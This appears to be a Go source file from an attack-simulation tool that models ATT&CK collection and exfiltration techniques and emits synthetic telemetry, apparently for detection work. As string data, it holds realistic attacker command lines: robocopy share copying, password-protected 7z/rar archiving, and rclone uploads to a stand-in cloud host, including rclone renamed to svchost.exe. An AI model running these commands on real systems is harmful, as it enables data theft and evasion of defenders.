package technique

import (
	"fmt"
	"time"

	"hemostat/sim"
	"hemostat/sim/world"
)

var exfiltration = []*Technique{
	{
		ID: "T1039", Name: "Data from Network Shared Drive", Tactic: "collection", Platforms: []string{"windows"},
		Needs: "a foothold whose account may read a share", Effect: "data lies on the foothold, ready to leave",
		Telemetry: []string{"windows/security 4624 5140 5145", "zeek/smb_files", "zeek/conn"}, Tools: []string{"robocopy", "by hand"}, Takes: sim.LogNormal(4*time.Minute, 0.7), Success: 0.97,
		ready: needWindows, run: collect,
	},
	{
		ID: "T1560.001", Name: "Archive Collected Data: Archive via Utility", Tactic: "collection", Platforms: []string{"windows"},
		Needs: "collected data", Effect: "the data is packed and encrypted",
		Telemetry: []string{"windows/sysmon 1 11"}, Tools: []string{"7z with password", "renamed rar", "Compress-Archive"}, Takes: sim.LogNormal(3*time.Minute, 0.7), Success: 0.99,
		ready: needStaged, run: archive,
	},
	{
		ID: "T1041", Name: "Exfiltration Over C2 Channel", Tactic: "exfiltration", Platforms: []string{"windows", "linux"},
		Needs: "collected data and a channel", Effect: "the data is gone",
		Telemetry: []string{"zeek/conn", "zeek/ssl", "windows/sysmon 3"}, Achieves: "exfiltrate", Tools: []string{"at once", "in pieces"}, Takes: sim.LogNormal(time.Minute, 0.7), Success: 0.98,
		ready: needStaged, run: func(a *Attempt) Progress { return send(a, a.C2(), a.Tool) },
	},
	{
		ID: "T1567.002", Name: "Exfiltration Over Web Service: Exfiltration to Cloud Storage", Tactic: "exfiltration", Platforms: []string{"windows"},
		Needs: "collected data and a way to the web", Effect: "the data is gone",
		Telemetry: []string{"windows/sysmon 1 3 22", "zeek/conn", "zeek/ssl", "proxy"}, Achieves: "exfiltrate", Tools: []string{"rclone", "renamed rclone", "browser upload"}, Takes: sim.LogNormal(2*time.Minute, 0.7), Success: 0.98,
		ready: needStaged, run: func(a *Attempt) Progress {
			return send(a, world.Endpoint{Address: "192.0.119.200", Domain: "api.mega-drive.example"}, a.Tool)
		},
	},
}

func needStaged(s *State) error {
	if err := needFoothold(s); err != nil {
		return err
	}
	if s.Staged == 0 {
		return errNothingTaken
	}
	return nil
}

// collect copies data in pieces, one a round.
func collect(a *Attempt) Progress {
	w := a.World
	f := a.Where(true, false)
	if f == nil {
		return failure("%s", errNoWindows)
	}
	if a.Target == nil {
		var stores []*world.Data
		for _, d := range w.Data {
			if d.Host.Windows() && !a.Avoid[d.Host.Name] && w.Permitted(world.At(f.Host), world.At(d.Host), 445).OK() && a.reader(f, d) != nil {
				stores = append(stores, d)
			}
		}
		if len(stores) == 0 {
			return failure("%s", errNoData)
		}
		d := sim.Pick(&a.Rand, stores)
		a.Target, a.Account = d.Host, a.reader(f, d)
		share := a.Rand.For("share")
		a.Bytes = min(d.Bytes/4, uint64(share.LogNormal(4e9, 0.8)))
		if _, r := w.LogOn(a.Now, a.Actor, world.Logon{From: world.At(f.Host), To: a.Target, Account: a.Account, Type: world.LogonNetwork, Generation: a.Account.Generation}); !r.OK() {
			return blocked(onlyDefence(r))
		}
		if a.Tool == "robocopy" {
			robocopy := &world.Binary{Path: `C:\Windows\System32\Robocopy.exe`, OriginalName: "robocopy.exe", Company: "Microsoft Corporation", Product: "Microsoft® Windows® Operating System", Description: "Microsoft Robocopy", Version: "10.0.17763.1", Signed: true}
			a.start(f, robocopy, fmt.Sprintf(`robocopy \\%s\%s C:\Users\Public\s /e /mt:8`, a.Target.Name, d.Name))
		}
		w.OpenShare(a.Now+time.Second, a.Actor, world.At(f.Host), a.Target, a.Account, `\\*\`+d.Name)
	}
	if r := w.Reach(world.At(f.Host), world.At(a.Target), 445); !r.OK() {
		return blocked(r)
	}
	if r := a.Usable(f); !r.OK() {
		return blocked(r)
	}
	const pieces = 12
	opened := 4
	if a.Tool == "by hand" {
		opened = 2
	}
	for i := range opened {
		w.AccessShareFile(a.Now+time.Duration(i)*time.Second, a.Actor, world.At(f.Host), a.Target, a.Account, `\\*\Data`, fmt.Sprintf(`Records\%04d.xlsx`, a.Round*opened+i), false)
	}
	factor, _ := w.Throttle(world.At(f.Host), world.At(a.Target))
	w.Flow(a.Now, a.Actor, world.Flow{From: world.At(f.Host), To: world.At(a.Target), Port: 445, Service: "smb", Sent: a.Bytes / pieces / 50, Received: a.Bytes / pieces, Duration: 30 * time.Second})
	w.TransferFile(a.Now, a.Actor, world.At(a.Target), world.At(f.Host), "SMB", "application/vnd.openxmlformats-officedocument", "", a.Bytes/pieces)
	a.Staged += a.Bytes / pieces
	if a.Round+1 >= pieces {
		return success("%.1f GB collected from %s", float64(a.Bytes)/1e9, a.Target.Name)
	}
	rate := 40e6 / factor * (1.2 - a.Stealth) // bytes a second
	return again(time.Duration(float64(a.Bytes/pieces) / rate * float64(time.Second)))
}

// reader is an account by which a store can be read from a foothold, or nil.
func (a *Attempt) reader(f *Foothold, d *world.Data) *world.Account {
	if a.World.MayUse(f.Account, d.Host) {
		return f.Account
	}
	for i := range a.Credentials {
		if c := &a.Credentials[i]; !c.Refused && a.World.MayUse(c.Account, d.Host) {
			return c.Account
		}
	}
	return nil
}

func archive(a *Attempt) Progress {
	f := a.Where(true, false)
	if f == nil {
		return failure("%s", errNoWindows)
	}
	var p *world.Process
	switch a.Tool {
	case "7z with password":
		p = a.start(f, world.SevenZip, `7z.exe a -tzip -pS3cret C:\Users\Public\o.zip C:\Users\Public\s`)
	case "renamed rar":
		rar := world.Dropped(`C:\Users\Public\u.exe`, &a.Rand)
		rar.OriginalName, rar.Description, rar.Company = "rar.exe", "Command line RAR", "Alexander Roshal"
		p = a.start(f, rar, `u.exe a -hpS3cret -m5 C:\Users\Public\o.rar C:\Users\Public\s`)
	default:
		p = a.start(f, world.PowerShell, `powershell.exe -c "Compress-Archive -Path C:\Users\Public\s -DestinationPath C:\Users\Public\o.zip"`)
	}
	a.World.CreateFile(a.Now+2*time.Second, a.Actor, p, `C:\Users\Public\o.zip`)
	return success("%.1f GB packed", float64(a.Staged)/1e9)
}

// send moves one piece a round to the outside.
func send(a *Attempt, to world.Endpoint, tool string) Progress {
	w := a.World
	f := a.Current()
	if f == nil {
		return failure("%s", errNoFoothold)
	}
	if a.Round == 0 {
		rate := a.Rand.For("rate")
		a.Bytes = uint64(rate.LogNormal(2.5e6, 0.7)) // bytes a second, about 20 Mbit/s
		switch tool {
		case "rclone", "renamed rclone":
			b := world.Dropped(`C:\Users\Public\rclone.exe`, &a.Rand)
			b.OriginalName, b.Description, b.Product, b.Company = "rclone.exe", "Rsync for cloud storage", "Rclone", "https://rclone.org"
			line := `rclone.exe copy C:\Users\Public\o.zip mega:x --transfers 8 --no-check-certificate`
			if tool == "renamed rclone" {
				b, line = b.Renamed(`C:\Users\Public\svchost.exe`), `svchost.exe copy C:\Users\Public\o.zip mega:x --transfers 2 --bwlimit 8M`
			}
			a.Process = a.start(f, b, line)
		case "browser upload":
			a.Process = a.start(f, world.Edge, `"`+world.Edge.Path+`" --single-argument https://`+to.Domain+`/`)
		default:
			if f.Implant != nil {
				a.Process = f.Implant.Process
			}
		}
		w.Resolve(a.Now, a.Actor, f.Host, a.Process, to.Domain, "A", to.Address)
		a.Hostile.MarkAddress(to.Address)
		a.Hostile.MarkAddress(to.Domain)
	}
	if r := w.Reach(world.At(f.Host), to, 443); !r.OK() {
		return blocked(r)
	}
	if r := a.Usable(f); !r.OK() {
		return blocked(r)
	}
	piece, pause := uint64(400e6), time.Duration(0)
	if tool == "in pieces" || tool == "renamed rclone" {
		piece, pause = 35e6, time.Duration(float64(60*time.Second)*a.Rand.Exp()*(0.5+a.Stealth))
	}
	piece = min(piece, a.Staged)
	factor, _ := w.Throttle(world.At(f.Host), to)
	took := time.Duration(float64(piece) / float64(a.Bytes) * factor * float64(time.Second))
	w.Flow(a.Now, a.Actor, world.Flow{From: world.At(f.Host), To: to, Port: 443, Service: "ssl", Process: a.Process, Sent: piece, Received: piece / 400, Duration: took})
	w.TLS(a.Now, a.Actor, world.At(f.Host), to, 443, to.Domain, a.Hello, "CN="+to.Domain, "CN="+to.Domain, a.Technique.ID != "T1041")
	w.ProxyRequest(a.Now, a.Actor, world.Request{From: world.At(f.Host), To: to, Port: 443, Method: "CONNECT", Host: to.Domain, URI: to.Domain + ":443", Agent: "rclone/v1.65.0", Status: "200", Sent: piece, Received: piece / 400})
	a.Staged -= piece
	a.Exfiltrated += piece
	if a.Staged == 0 {
		return success("%.1f GB have left for %s", float64(a.Exfiltrated)/1e9, to.Domain)
	}
	return again(took + pause)
}
